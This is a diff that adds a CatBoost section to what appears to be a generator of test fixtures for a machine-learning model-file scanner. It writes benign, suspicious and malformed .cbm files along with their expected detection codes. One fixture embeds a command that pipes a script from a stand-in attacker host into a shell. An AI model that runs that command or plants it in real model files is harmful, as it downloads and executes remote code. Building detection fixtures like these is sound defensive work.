@@ -403,8 +403,107 @@ def gen_skops():
     )
 
 
+# ---------------------------------------------------------------- CatBoost
+
+class FlatBuffer:
+    """Lays a flatbuffer out front to back (readers only follow offsets, so order is free)."""
+
+    def __init__(self):
+        self.b = bytearray(4)
+
+    def pad(self):
+        while len(self.b) % 4:
+            self.b.append(0)
+
+    def table(self, nfields):
+        self.pad()
+        vt = len(self.b)
+        self.b += struct.pack("<HH", 4 + 2 * nfields, 4 + 4 * nfields)
+        self.b += b"".join(struct.pack("<H", 4 + 4 * i) for i in range(nfields))
+        self.pad()
+        t = len(self.b)
+        self.b += struct.pack("<i", t - vt) + b"\0" * (4 * nfields)
+        return t
+
+    def string(self, s):
+        self.pad()
+        pos = len(self.b)
+        data = s.encode()
+        self.b += struct.pack("<I", len(data)) + data + b"\0"
+        return pos
+
+    def vector(self, n):
+        self.pad()
+        pos = len(self.b)
+        self.b += struct.pack("<I", n) + b"\0" * (4 * n)
+        return pos
+
+    def link(self, at, target):
+        struct.pack_into("<I", self.b, at, target - at)
+
+    def field(self, table, i):
+        return table + 4 + 4 * i
+
+
+def catboost_core(info, version="FlabuffersModel_v1"):
+    fb = FlatBuffer()
+    root = fb.table(4)
+    struct.pack_into("<I", fb.b, 0, root)
+    fb.link(fb.field(root, 0), fb.string(version))
+    trees = fb.table(0)
+    fb.link(fb.field(root, 1), trees)
+    vec = fb.vector(len(info))
+    fb.link(fb.field(root, 2), vec)
+    for i, (k, v) in enumerate(info.items()):
+        kv = fb.table(2)
+        fb.link(fb.field(kv, 0), fb.string(k))
+        fb.link(fb.field(kv, 1), fb.string(v))
+        fb.link(vec + 4 + 4 * i, kv)
+    parts = fb.vector(0)
+    fb.link(fb.field(root, 3), parts)
+    return bytes(fb.b)
+
+
+def cbm(info, core=None):
+    core = core if core is not None else catboost_core(info)
+    return b"CBM1" + struct.pack("<I", len(core)) + core
+
+
+CB_PARAMS = {
+    "loss_function": {"type": "Logloss"},
+    "eval_metric": {"type": "AUC"},
+    "boosting_options": {"iterations": 100, "learning_rate": 0.03},
+    "tree_learner_options": {"depth": 6},
+}
+
+
+def gen_catboost():
+    benign = {"catboost_version_info": "Git info:\n    Commit: 4d7de4b\n", "model_guid": "a3f1e6c2-7d0b4e1a-9c5f2b8d-1e4a6c3f",
+              "params": json.dumps(CB_PARAMS), "train_finish_time": "2024-05-02T10:15:44Z", "training": json.dumps({"metrics": ["Logloss"]})}
+    out("catboost", "benign-classifier.cbm", cbm(benign))
+    custom = dict(benign, params=json.dumps(dict(CB_PARAMS, loss_function={"type": "PythonUserDefinedPerObject"})))
+    out("catboost", "suspicious-user-defined-loss.cbm", cbm(custom))
+    code = dict(benign, training=json.dumps({"custom_metric": "import os; os.system('curl http://attacker.example/p | sh')"}))
+    out("catboost", "malicious-code-in-info.cbm", cbm(code))
+    out("catboost", "malformed-core-size.cbm", b"CBM1" + struct.pack("<I", 1 << 30) + catboost_core(benign))
+    bad = bytearray(catboost_core(benign))
+    struct.pack_into("<I", bad, 0, 0x7ffffff0)
+    out("catboost", "malformed-root-offset.cbm", cbm(None, bytes(bad)))
+    out("catboost", "malformed-truncated.cbm", cbm(benign)[:60])
+    expected(
+        "catboost",
+        {
+            "malicious-code-in-info.cbm": ["CB-001"],
+            "malformed-core-size.cbm": ["CORE-001"],
+            "malformed-root-offset.cbm": ["CORE-001"],
+            "malformed-truncated.cbm": ["CORE-001"],
+        },
+    )
+
+
 if __name__ == "__main__":
     gen_pmml()
     gen_lightgbm()
     gen_xgboost()
     gen_skops()
+    gen_catboost()
